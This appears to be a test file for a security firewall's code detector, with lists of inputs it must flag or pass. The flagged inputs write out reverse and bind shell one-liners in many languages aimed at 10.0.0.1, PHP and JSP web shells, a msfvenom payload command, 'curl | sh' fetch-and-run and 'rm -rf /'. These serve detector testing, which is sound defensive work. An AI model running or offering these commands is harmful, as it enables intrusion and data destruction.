/**
 * The `code` detector: execution sinks fed by input, reverse and bind shells, web shells and unsafe
 * deserialization in Python, JavaScript, PHP, Ruby, Perl and Java, and the ordinary code and prose
 * that must stay quiet. Every case below was written here (the shell one-liners follow the shape
 * MITRE ATT&CK T1059 describes; none is copied from a payload catalog).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  COMPUTED,
  callArgs,
  classify,
  EMPTY,
  INPUT,
  LITERAL,
  SUPERGLOBAL,
} from '../../../src/firewall/detectors/_code-args.js';
import { codeDetector } from '../../../src/firewall/detectors/code.js';
import { IntentFirewall } from '../../../src/firewall/index.js';
import { detectorTable, findingsOf, idsOf } from './_scan.js';

const scan = (text: string, rescans?: string[]) => findingsOf(codeDetector, text, rescans);
const ids = (text: string) => idsOf(codeDetector, text);

/** [text, finding id, severity]. Provenance: written here. */
const POSITIVE: readonly (readonly [string, string, string])[] = [
  ['exec(payload)', 'code.exec-sink', 'high'],
  ['eval(request.args["code"])', 'code.exec-sink', 'high'],
  ['result = eval(input())', 'code.exec-sink', 'high'],
  ['new Function(req.body.x)()', 'code.exec-sink', 'high'],
  // The body is the constructor's last argument.
  ['const fn = new Function("event", request.body.source); fn(event);', 'code.exec-sink', 'high'],
  ['os.system(f"ping -c 1 {host}")', 'code.exec-sink', 'high'],
  ["os.popen('ls ' + sys.argv[1]).read()", 'code.exec-sink', 'high'],
  ['exec(open("plugin.py").read())', 'code.exec-sink', 'high'],
  ['child_process.exec(`ls ${dir}`)', 'code.exec-sink', 'high'],
  ["require('child_process').exec('rm -rf ' + userPath)", 'code.exec-sink', 'high'],
  ["const out = execSync('git log ' + req.query.branch)", 'code.exec-sink', 'high'],
  ['vm.runInNewContext(req.body.script)', 'code.exec-sink', 'high'],
  ["preg_replace('/.*/e', $_GET['r'], '');", 'code.exec-sink', 'high'],
  ['puts `ls #{params[:dir]}`', 'code.exec-sink', 'high'],
  ['eval(params[:code])', 'code.exec-sink', 'high'],
  ['Kernel.system("tar xf #{file}")', 'code.exec-sink', 'high'],
  ['user.instance_eval(params[:expr])', 'code.exec-sink', 'high'],
  ['out = %x(grep #{pattern} log.txt)', 'code.exec-sink', 'high'],
  ['system($ENV{CMD});', 'code.exec-sink', 'high'],
  ['open(my $fh, "$cmd |");', 'code.exec-sink', 'high'],
  ['my $out = qx($input);', 'code.exec-sink', 'high'],
  ['Runtime.getRuntime().exec(cmd)', 'code.exec-sink', 'high'],
  ['Process.Start("cmd.exe", "/c " + Request.QueryString["c"]);', 'code.exec-sink', 'high'],
  ["__import__('os').system(cmd)", 'code.exec-sink', 'high'],
  ['setTimeout(req.query.code, 100)', 'code.exec-sink', 'high'],
  ['subprocess.run(cmd, shell=True)', 'code.shell-true', 'high'],
  ['subprocess.check_output(f"git log {branch}", shell=True)', 'code.shell-true', 'high'],
  ['subprocess.Popen(user_input, shell = True)', 'code.shell-true', 'critical'],
  ["spawn('sh', ['-c', userCmd])", 'code.shell-true', 'high'],
  ["<?php system($_GET['cmd']); ?>", 'code.web-shell', 'critical'],
  ['<?= `$_GET[x]` ?>', 'code.web-shell', 'critical'],
  ["<?php eval(base64_decode($_POST['p'])); ?>", 'code.web-shell', 'critical'],
  ["assert($_REQUEST['x']);", 'code.web-shell', 'critical'],
  ["passthru($_COOKIE['c']);", 'code.web-shell', 'critical'],
  ['<% Runtime.getRuntime().exec(request.getParameter("c")); %>', 'code.web-shell', 'critical'],
  ["eval(gzinflate(base64_decode('7b0HYBxJliUmL23Kvd')));", 'code.obfuscated-exec', 'high'],
  ['exec(base64.b64decode(blob))', 'code.obfuscated-exec', 'high'],
  ['data = pickle.loads(request.data)', 'code.unsafe-deserialization', 'high'],
  ['obj = pickle.loads(sock.recv(4096))', 'code.unsafe-deserialization', 'high'],
  ['state = pickle.loads(base64.b64decode(cookie))', 'code.unsafe-deserialization', 'high'],
  ['net = torch.load(uploaded_weights)', 'code.unsafe-deserialization', 'high'],
  ['df = pd.read_pickle(request.files["data"])', 'code.unsafe-deserialization', 'high'],
  [
    'mapper.activateDefaultTyping(ptv); Object o = mapper.readValue(body, Object.class);',
    'code.unsafe-deserialization',
    'high',
  ],
  // Server-side templates built from the request.
  ['return render_template_string(request.args.get("page"))', 'code.exec-sink', 'high'],
  ['Template(request.form["body"]).render(user=u)', 'code.exec-sink', 'high'],
  ['config = yaml.load(open("c.yml"))', 'code.unsafe-deserialization', 'high'],
  ['cfg = yaml.load(text, Loader=yaml.Loader)', 'code.unsafe-deserialization', 'high'],
  ["$obj = unserialize($_COOKIE['data']);", 'code.unsafe-deserialization', 'high'],
  ['Object o = new ObjectInputStream(request.getInputStream()).readObject();', 'code.unsafe-deserialization', 'high'],
  ['serialize.unserialize(req.cookies.profile)', 'code.unsafe-deserialization', 'high'],
  ['{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\')}()"}', 'code.unsafe-deserialization', 'critical'],
  ['marshal.loads(payload)', 'code.unsafe-deserialization', 'high'],
  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'code.reverse-shell', 'critical'],
  ['0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196', 'code.reverse-shell', 'critical'],
  ['nc -e /bin/sh 10.0.0.1 4444', 'code.reverse-shell', 'critical'],
  ['nc -lvnp 4444 -e /bin/bash', 'code.reverse-shell', 'critical'],
  ['/usr/bin/ncat 10.0.0.1 4444 --exec /bin/bash', 'code.reverse-shell', 'critical'],
  ['ncat -l 9001 --sh-exec "cat"', 'code.reverse-shell', 'critical'],
  ['socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr', 'code.reverse-shell', 'critical'],
  ['socat TCP-LISTEN:1337,reuseaddr,fork EXEC:bash', 'code.reverse-shell', 'critical'],
  ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f', 'code.reverse-shell', 'critical'],
  ['nc 10.0.0.1 4444 | /bin/bash', 'code.reverse-shell', 'critical'],
  ['telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445', 'code.reverse-shell', 'critical'],
  ['php -r \'$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'code.reverse-shell', 'critical'],
  [
    'ruby -rsocket -e \'c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    'python -c \'import socket,os,pty;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);pty.spawn("/bin/bash")\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    'node -e \'var net=require("net"),cp=require("child_process");var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){var sh=cp.spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c);});\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    'powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\'10.0.0.1\',4444);$s = $c.GetStream()"',
    'code.reverse-shell',
    'critical',
  ],
  [
    'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(1){ s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c)}}}\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    'code.reverse-shell',
    'critical',
  ],
  [
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s',
    'code.reverse-shell',
    'critical',
  ],
  [
    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
    'code.reverse-shell',
    'critical',
  ],
  [
    'c, _ := net.Dial("tcp", "10.0.0.1:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c',
    'code.reverse-shell',
    'critical',
  ],
  ['cat < /dev/tcp/time.example/13', 'code.dev-tcp', 'medium'],
  ['msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST=10.0.0.1 -f exe > a.exe', 'code.exploit-payload', 'high'],
];

/** [text, the id that must NOT be reported (or null: nothing)]. Provenance: written here. */
const NEGATIVE: readonly (readonly [string, string | null])[] = [
  ['eval("2 + 2")', null],
  ["const add = new Function('a', 'b', 'return a + b');", null],
  ["x = eval('[1, 2, 3]')", null],
  ['JSON.parse(body)', null],
  ['value = ast.literal_eval(s)', null],
  ['subprocess.run(["ls", "-l"])', null],
  ['subprocess.run("ls -l", shell=True)', null],
  ['os.system("clear")', null],
  ["child_process.spawn('git', ['status'])", null],
  ["execFile('git', ['status'], cb)", null],
  ['config = yaml.safe_load(f)', null],
  ['config = yaml.load(f, Loader=yaml.SafeLoader)', null],
  ['the exec summary is due friday', null],
  ['please evaluate the system design', null],
  ['const m = re.exec(line)', null],
  ['while ((m = pattern.exec(text)) !== null) count++', null],
  ['model.eval()', null],
  ['result = platform.system()', null],
  ['function(req, res) { res.send(ok) }', null],
  ['const f = function (a, b) { return a + b }', null],
  ['with open("data.csv") as f: rows = list(csv.reader(f))', null],
  ['assert(result === 3)', null],
  ['nc -zv db.internal 5432', null],
  ['ncat --version', null],
  ['the socket connects to the server and we spawn a worker', null],
  ['const sock = new WebSocket(url); sock.onmessage = handle', null],
  ['pickle.dump(model, open("m.pkl", "wb"))', null],
  ['data = pickle.loads(cache_blob)', null],
  ['echo `date`', null],
  ['setTimeout(tick, 100)', null],
  ['server.start(port)', null],
  ['setInterval(() => poll(url), 5000)', null],
  ['const msg = `hello ${name}`', null],
  ['db.query("SELECT 1").then(run)', null],
  ['preg_replace(\'/\\s+/\', " ", $text);', null],
  ['model = torch.load("weights/resnet50.pt")', null],
  ['order = mapper.readValue(body, Order.class);', null],
  ['return render_template_string(PAGE, name=current_user.name)', null],
  ["greeting = Template('Hello $who').substitute(who=name)", null],
  ['for cookie in jar: print(cookie.name, cookie.expires)', null],
];

describe('the code detector', () => {
  detectorTable(codeDetector, POSITIVE, NEGATIVE, [
    'code.exec-sink',
    'code.shell-true',
    'code.web-shell',
    'code.obfuscated-exec',
    'code.unsafe-deserialization',
    'code.reverse-shell',
    'code.dev-tcp',
    'code.exploit-payload',
  ]);

  it('files findings under the pack families', () => {
    for (const [text] of POSITIVE)
      for (const f of scan(text)) expect(['remote-code-execution', 'malware']).toContain(f.category);
  });
});

describe('literal commands', () => {
  it.each([
    ["os.system('rm -rf /')", 'rm -rf /'],
    ['subprocess.run(["rm", "-rf", "/"])', 'rm -rf /'],
    ["child_process.execSync('curl http://x.example/a.sh | sh')", 'curl http://x.example/a.sh | sh'],
  ])('hands the command of %j to the rescan', (text, command) => {
    const rescans: string[] = [];
    codeDetector.scan(text, {
      report: () => {},
      rescan: (decoded) => {
        rescans.push(decoded);
        return undefined;
      },
    });
    expect(rescans).toEqual([command]);
  });

  it('judges the literal command like one typed directly', () => {
    const fw = new IntentFirewall();
    expect(fw.validateRequest({ id: 't', content: 'subprocess.run(["rm", "-rf", "/"])' }).decision).toBe('block');
    expect(fw.validateRequest({ id: 't', content: 'subprocess.run(["ls", "-la"])' }).decision).toBe('allow');
  });
});

describe('call arguments', () => {
  it.each([
    ['', EMPTY],
    ['"ls -l"', LITERAL],
    ["'a' + 'b', 3", LITERAL],
    ['r"\\d+"', LITERAL],
    ['f"ping {host}"', COMPUTED],
    ['`ls ${dir}`', COMPUTED],
    ['"tar #{file}"', COMPUTED],
    ['"$cmd"', COMPUTED],
    ['payload_var', INPUT],
    ['request.form["x"]', INPUT],
    ["$_GET['c']", SUPERGLOBAL],
    ['cmd', COMPUTED],
  ] as const)('classify(%j) is %i', (arg, want) => {
    expect(classify(arg)).toBe(want);
  });

  it('cuts the first argument at a top-level comma and respects quotes and brackets', () => {
    const s = 'f("a,b", [1, 2], g(x, y))';
    expect(callArgs(s, 1)).toEqual(['"a,b"', '"a,b", [1, 2], g(x, y)']);
  });

  it('never throws on arbitrary text and keeps offsets inside it', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 10 }),
      fc.constantFrom(
        'eval(',
        'exec(',
        ')',
        '(',
        '"',
        "'",
        '`',
        '$_GET',
        'shell=True',
        'socket',
        'nc -e',
        '/dev/tcp/',
        '#{',
        '${',
        ',',
        '\ud800',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        const text = parts.join('');
        for (const f of scan(text)) {
          expect(f.start).toBeGreaterThanOrEqual(0);
          expect(f.end).toBeLessThanOrEqual(text.length);
          expect(f.end).toBeGreaterThanOrEqual(f.start);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('finds a sink whatever the spacing before its parenthesis and the case of PHP names', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('', ' ', '  ', '\t'),
        fc.constantFrom('system', 'SYSTEM', 'System', 'passthru', 'shell_exec'),
        (gap, name) => {
          expect(ids(`${name}${gap}($_GET['c']);`)).toContain('code.web-shell');
        },
      ),
    );
  });

  it('reads hostile segments of the largest size to the end', () => {
    const n = 8192;
    for (const unit of ['eval(', '(', '`', '"', 'nc ', 'socket(', 'exec(a,', '%x(']) {
      expect(() => scan(unit.repeat(Math.ceil(n / unit.length)).slice(0, n))).not.toThrow();
    }
  });
});
